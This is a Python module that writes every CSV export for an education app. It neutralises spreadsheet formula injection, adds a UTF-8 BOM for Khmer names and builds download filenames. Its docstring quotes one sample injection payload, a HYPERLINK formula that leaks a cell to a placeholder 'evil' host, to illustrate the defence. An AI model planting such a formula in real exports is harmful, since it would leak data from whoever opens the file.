"""The one writer of every CSV Kru hands out: spreadsheet-safe cells, UTF-8 with BOM, streamed.

Class lists, cohort dashboards, event logs and the ministry's exports all pass through
``csv_lines``. A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is written with a leading single quote, so Excel or LibreOffice shows it as text
instead of running it as a formula (OWASP "CSV injection": a display name such as
``=HYPERLINK("http://evil/?"&A1,"open")`` typed by a learner, or a course title sent by a
site, must not act on the instructor's or the ministry's computer). Numbers are left as
numbers, so a negative clock offset stays a number. No Flask here.
"""

from __future__ import annotations

import csv
import io
import re
import urllib.parse
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

BOM = "\ufeff"  # so Excel reads the file as UTF-8 and shows Khmer names
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINE_END = "\r\n"


def safe_cell(value: Any) -> Any:
    """Return ``value`` with a text cell that a spreadsheet would run as a formula quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_lines(rows: Iterable[Sequence[Any]], *, bom: bool = True) -> Iterator[str]:
    """Yield CSV text for ``rows`` one line at a time (the BOM first), every cell made safe.

    ``None`` becomes an empty cell. Memory stays flat however many rows there are.
    """
    if bom:
        yield BOM
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=LINE_END)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
        yield buf.getvalue()
        buf.seek(0)
        buf.truncate()


def csv_text(rows: Iterable[Sequence[Any]], *, bom: bool = True) -> str:
    """Return the whole CSV for ``rows`` as one string (small exports and tests)."""
    return "".join(csv_lines(rows, bom=bom))


def attachment(*parts: str, suffix: str = ".csv") -> str:
    """Return a Content-Disposition value naming the file after ``parts`` (a cohort, a course).

    Khmer names stay Khmer for browsers that read RFC 6266's ``filename*``; the plain
    ``filename`` keeps only ASCII letters and digits for those that do not.
    """
    words = ["-".join(re.findall(r"\w+", p)) for p in parts]
    name = "-".join(w for w in words if w) or "kru"
    ascii_name = re.sub(r"[^A-Za-z0-9]+", "-", name).strip("-") or "kru"
    utf8 = urllib.parse.quote(name + suffix, safe="")
    return f"attachment; filename=\"{ascii_name}{suffix}\"; filename*=UTF-8''{utf8}"
